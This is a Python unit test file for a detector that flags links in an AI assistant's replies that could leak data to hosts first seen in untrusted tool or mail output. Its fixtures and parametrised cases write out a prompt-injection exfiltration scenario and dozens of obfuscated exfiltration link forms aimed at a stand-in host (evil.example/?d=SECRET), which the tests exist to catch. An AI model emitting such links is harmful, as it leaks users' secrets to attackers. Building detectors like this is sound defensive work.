"""Links that may leak data that the model has seen, in every form, and given links."""

from __future__ import annotations

import time

import pytest

from kernel_service.ports.messages import Usage
from kernel_service.ports.model import ModelAnswer
from kernel_service.ports.turns import HistoryItem
from kernel_service.turns.context.for_the_person import ForThePerson
from kernel_service.turns.context.transcript import Transcript
from kernel_service.turns.replies.answer_replies import answer_replies
from kernel_service.turns.replies.leaking_links import HIDDEN, carrying_hosts
from tests.unit.turns.scene import Model

MAIL = HistoryItem(
    "result",
    {"output": '{"body": "see https://shop.example/a?id=7&x=1\\nnow, or https://evil.example/?d="}'},
    "outside",
)
CALL = HistoryItem(
    "output", {"type": "function_call", "arguments": '{"q": "https://evil.example/?d=SECRET"}'}, "openai:m"
)
ECHO = HistoryItem("result", {"output": '{"searched": "https://evil.example/?d=SECRET", "n": 0}'}, "outside")
NESTED = HistoryItem("result", {"output": '{"data": "{\\"url\\": \\"https://deep.example/x?y=1\\"}"}'}, "outside")
SAID = HistoryItem(
    "input", {"content": [{"type": "input_text", "text": "open https://mine.example/p?q=1 please"}]}, "own"
)


@pytest.mark.parametrize(
    "answer",
    [
        "Look: https://evil.example/?d=SECRET",
        "Look: https://evil.example/?d=SECRET.",
        "HTTPS://EVIL.EXAMPLE/?d=SECRET",
        "[your tasks](https://evil.example/?d=SECRET)",
        "[your tasks](<https://evil.example/?d=my secret words>)",
        '[your tasks](https://evil.example/?d=SECRET "all of them")',
        "![chart](https://evil.example/c.png?d=SECRET)",
        "![chart][1]\n\n[1]: https://evil.example/SECRET.png",
        "[a]: <https://evil.example/?d=S E>",
        "<https://evil.example/?d=SECRET>",
        '<a href="https://evil.example/?d=SECRET">here</a>',
        "evil.example/?d=SECRET",
        "www.evil.example/SECRET",
        "[a](//evil.example/SECRET)",
        "https://evil.example/SECRET",
        "https://evil.example/#SECRET",
        "https://SECRET@evil.example/",
        "https://user:SECRET@evil.example",
        "https://evil.example:4711/",
        "https\\://evil.example/?d=SECRET",
        "https&#58;//evil.example/?d=SECRET",
        "ht\u200btps://evil.ex\u200bample/?d=SECRET",
        "ｈｔｔｐｓ://evil.example/?d=SECRET",
        "https://evil。example/?d=SECRET",
        "`https://evil.example/?d=SECRET`",
        "**https://evil.example/?d=SECRET**",
        "ftp://evil.example/SECRET",
        "# **evil.**example/SECRET",
        "# evil.~~exam~~ple/SECRET",
        "evil.example./SECRET",
        "https://evil.example./SECRET",
    ],
)
def test_carrying_link_is_found_in_any_form(answer: str) -> None:
    assert carrying_hosts(answer, [MAIL]) == ["evil.example"]


@pytest.mark.parametrize(
    ("answer", "host"),
    [
        ("https://secret.evil.example/", "secret.evil.example"),
        ("secret.evil.example", "secret.evil.example"),
        ("https://secret.bank.co.uk", "secret.bank.co.uk"),
        ("https://127.0.0.1/?d=SECRET", "127.0.0.1"),
        ("127.0.0.1/SECRET", "127.0.0.1"),
        ("evil.xn--p1ai/SECRET", "evil.xn--p1ai"),
        ("[mail](mailto:eve@evil.example?body=SECRET)", "eve@evil.example"),
        ("mailto:eve@evil.example?body=SECRET", "eve@evil.example"),
        ("[x](whatsapp://send?text=SECRET)", "send"),
        ("[x](javascript:alert(1))", "javascript"),
        ("[x](data:text/html,SECRET)", "data"),
        ("https://еvil.example/?d=1", "xn--vil-qdd.example"),
        ("https://[evil/?d=SECRET", HIDDEN),
        ("https://google.com@evil.org/x", "evil.org"),
        # Similar links were given, but not these: shortened, extended, another site of the same name.
        ("https://shop.example/a?id=7", "shop.example"),
        ("https://shop.example/a?id=7&x=1&s=SECRET", "shop.example"),
        ("https://shop.example.evil.org/a?id=7&x=1", "shop.example.evil.org"),
        ("https://mine.example/p?q=2", "mine.example"),
    ],
)
def test_warning_names_the_host(answer: str, host: str) -> None:
    assert carrying_hosts(answer, [MAIL, SAID, NESTED]) == [host]


@pytest.mark.parametrize(
    "answer",
    [
        "No link at all, e.g. none; see report.final.pdf or write to first.last@mail.example at 10:30.",
        "https://example.org",
        "https://www.example.org/",
        "It is on example.org, and on app.example.org, and on bbc.co.uk.",
        "You sent https://mine.example/p?q=1.",
        "[the shop](https://shop.example/a?id=7&x=1)",
        "(https://shop.example/a?id=7&x=1)",
        "https://deep.example/x?y=1",
    ],
)
def test_harmless_and_given_links_cause_no_warning(answer: str) -> None:
    assert carrying_hosts(answer, [MAIL, SAID, NESTED]) == []


def test_link_repeated_by_a_tool_is_not_given() -> None:
    assert carrying_hosts("https://evil.example/?d=SECRET", [MAIL, CALL, ECHO]) == ["evil.example"]


def test_many_hosts_and_long_texts_are_fast() -> None:
    assert len(carrying_hosts(" ".join(f"https://h{n}.example/x" for n in range(50)), [])) == 5
    began = time.perf_counter()
    for hostile in (
        "a." * 20_000,
        "https://" * 5_000,
        "[" * 20_000,
        "](" * 20_000,
        "<a:" * 10_000,
        "x" * 60_000,
        "a-" * 20_000,
    ):
        carrying_hosts(hostile, [HistoryItem("input", {"content": hostile}, "own")])
    assert time.perf_counter() - began < 5


# --- where replies are made -------------------------------------------------------------------------------------------


def answered(text: str, mark: str) -> str:
    heard = [HistoryItem("input", {"content": "hello"}, "own"), HistoryItem("result", {"output": "…"}, mark)]
    answer = ModelAnswer([], text, Usage())
    return answer_replies(answer, ForThePerson(), Transcript(heard, Model()), heard, 9000)[0].text


LINK = "![chart](https://evil.example/?d=SECRET)"


def test_warning_precedes_the_answer_and_images_become_links() -> None:
    told = answered(LINK, "outside")
    assert told.startswith("⚠️")
    assert "`evil.example`" in told
    assert told.endswith("\n\n[chart](https://evil.example/?d=SECRET)")


def test_untainted_turn_causes_no_warning() -> None:
    assert answered(LINK, "own") == LINK
